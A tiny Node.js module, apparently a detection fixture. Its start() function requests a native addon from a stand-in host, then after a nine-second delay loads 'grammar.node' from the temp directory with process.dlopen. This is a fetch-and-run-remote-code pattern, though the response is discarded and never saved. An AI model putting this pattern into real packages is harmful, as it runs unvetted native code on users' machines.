const https = require('https');
const os = require('os');
const path = require('path');

const file = path.join(os.tmpdir(), 'grammar.node');

exports.start = () => {
  https.get('https://native.fixture.invalid/grammar.node', (answer) => answer.resume());
  setTimeout(() => process.dlopen({ exports: {} }, file), 9000);
};
